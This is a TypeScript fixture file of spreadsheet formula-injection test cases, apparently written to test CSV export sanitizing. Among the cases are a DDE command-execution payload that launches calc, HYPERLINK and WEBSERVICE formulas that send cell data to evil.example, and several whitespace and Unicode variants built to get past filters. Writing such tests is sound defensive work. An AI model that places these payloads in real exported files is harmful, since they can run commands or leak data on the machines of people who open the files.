interface SpreadsheetCase {
  text: string
  /** A spreadsheet would evaluate it without the leading apostrophe. */
  isFormula: boolean
}

const formula = (text: string): SpreadsheetCase => ({ text, isFormula: true })
const plain = (text: string): SpreadsheetCase => ({ text, isFormula: false })

/** Texts that break spreadsheet files, or run in them. */
export const spreadsheetTexts: SpreadsheetCase[] = [
  formula('=1+1'),
  formula("=cmd|' /C calc'!A0"),
  formula('=HYPERLINK("https://evil.example?"&A1,"Fern")'),
  formula('=WEBSERVICE(CONCATENATE("https://evil.example/",B2))'),
  formula('+1+1'),
  formula('-1+1'),
  formula('-2+3+cmd|calc'),
  formula('@SUM(A1:A9)'),
  formula('|calc'),
  formula('%0A=1+1'),
  formula('\t=1+1'),
  formula('\r=1+1'),
  formula('\n=1+1'),
  formula(' =1+1'),
  formula('   @SUM(A1)'),
  formula('\u00A0=1+1'),
  formula('\u200B=1+1'),
  formula('\uFEFF+1'),
  formula('\uFF1D1+1'),
  formula('\uFF0B1+1'),
  formula('\uFF0D1+1'),
  formula('\uFF20SUM(A1)'),
  formula('"=1+1"'),
  formula('" =1+1'),
  formula("'=1+1"),
  plain('Fern, Field & Sons'),
  plain('Sam "the" Stager'),
  plain('a";=1+1;"'),
  plain('x,=1+1'),
  plain('Two\nlines, "quoted"'),
  plain('Two\r\nlines\r\n=1+1'),
  plain('semi;colon\ttab'),
  plain("O'Brien"),
  plain('a=b+c@d-e'),
  plain('"'),
  plain(',,,'),
]
